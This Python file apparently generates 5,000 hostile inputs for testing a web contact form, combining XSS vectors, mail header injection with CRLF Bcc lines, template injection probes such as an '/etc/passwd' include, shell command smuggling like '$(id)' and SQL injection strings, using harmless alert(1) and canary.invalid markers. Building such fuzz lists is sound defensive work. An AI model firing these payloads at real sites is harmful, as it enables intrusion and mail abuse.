"""What strangers type into a form so that it does more than stand in a mail: 5,000 values, made by a fixed rule."""

from collections.abc import Callable, Iterator
from itertools import cycle, islice, product

_RUN = "alert(1)"
_HTML = (
    f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f"<svg onload={_RUN}>", f"<svg/onload={_RUN}//", "<b>",
    "</p>", f"<iframe src=javascript:{_RUN}>", "<base href=//canary.invalid>", f"<a href=javascript:{_RUN}>x</a>",
    "<!--", "-->", "]]>", f"<details open ontoggle={_RUN}>",
    "<meta http-equiv=refresh content=0;url=//canary.invalid>", "<link rel=stylesheet href=//canary.invalid>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>", "<plaintext>",
    "<style>*{display:none}</style>", f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;script&#62;{_RUN}",
    f"<scr\0ipt>{_RUN}</scr\0ipt>", f"<ſcript>{_RUN}</ſcript>", f"＜script＞{_RUN}＜/script＞",
    f"\\u003cscript\\u003e{_RUN}", f"<img\x0bsrc=x\x0conerror={_RUN}>", f"%3Cscript%3E{_RUN}%3C/script%3E",
)  # fmt: skip
_ATTRIBUTES = (
    f'" onmouseover="{_RUN}', f"' onmouseover='{_RUN}", f'" autofocus onfocus={_RUN} x="',
    f'"><script>{_RUN}</script>', f"` onload={_RUN}", '" style="background:url(//canary.invalid)" x="', '"', "'", "`",
    "\\", '\\"', "\\'", f"x onload={_RUN}", f'"/onmouseover="{_RUN}', "&quot;", "&#34;",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{_RUN}", f"JAVASCRIPT&colon;{_RUN}", f"\x01javascript:{_RUN}", f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>", "//canary.invalid", "https://canary.invalid/", "@canary.invalid",
    "/../../", "?a=b&c=d#e", "%0d%0aSet-Cookie:a=b", "\\\\canary.invalid\\a", "#", "mailto:a@b?bcc=c@d",
)  # fmt: skip
_HEADERS = (
    "a\r\nBcc: v@canary.invalid", "a\nBcc: v@canary.invalid", "a\rBcc: v@canary.invalid",
    "a\r\n\r\n<script>alert(1)</script>", "a\u2028Bcc: v@canary.invalid", "a\u2029X: y", "a\x85X: y", "a\x0bX: y",
    "a\x0cX: y", "a\0b", "a\r\n b", "=?utf-8?q?=0d=0aBcc:_v?=", "=?utf-8?b?DQpCY2M6IHY=?=",
    "v@canary.invalid, b@canary.invalid", 'a" <v@canary.invalid>, "b', "<v@canary.invalid>", "a;b:c,d", "(comment)",
    "a\r\n.\r\nQUIT", "\ud800", "a\udc0ab", "\u560a\u560dX: y", "嘊嘍X: y", "%E5%98%8A%E5%98%8DX: y",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{{ lead }}", "{{ ''.__class__ }}", "{% include '/etc/passwd' %}", "{# x #}", "{{", "}}", "{%", "%}",
    "LFTAG0X", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ links.page('x') }}", "%s%s%s%n", "{0.__class__}", "%(a)s",
    "$(id)", "`id`", "; id", "' OR 1=1 --", "[x](javascript:alert(1))", "**b**", "\u202eevil", "\u2066a", "a" * 500,
)  # fmt: skip
_BASES = (*_HTML, *_ATTRIBUTES, *_ADDRESSES, *_HEADERS, *_TEMPLATES)
_AROUND = (
    "{}", "Zoé {}", "{} Zoé", "\"{}\"", "'{}'", ">{}<", "\">{}", "'>{}", "</title>{}", "</style>{}", "-->{}", "]]>{}",
    "&{};", "\\{}", "\r\n{}", "\0{}", "\u202e{}", "\ufeff{}", "漢{}é", "{}{}", "x={} ", "*/{}/*", "`{}`", "${{{}}}",
    "  {}  ", "\t{}\n", "{}\u200b",
)  # fmt: skip
_TURNS: tuple[Callable[[str], str], ...] = (
    str, str.upper, str.swapcase, str.title, lambda text: text.replace("<", "<<"), lambda text: text.replace(" ", "/"),
    lambda text: text.replace("a", "&#97;"),
)  # fmt: skip


def payloads(many: int = 5000) -> Iterator[str]:
    """Each once: every start in every surrounding, in a form that goes round."""
    turns = cycle(_TURNS)
    made = (next(turns)(around.replace("{}", base)) for base, around in product(_BASES, _AROUND))
    more = (turn(around.replace("{}", base)) for turn, around, base in product(_TURNS, _AROUND, _BASES))
    seen = dict.fromkeys(text for source in (made, more) for text in islice(source, 2 * many))
    yield from islice(seen, many)
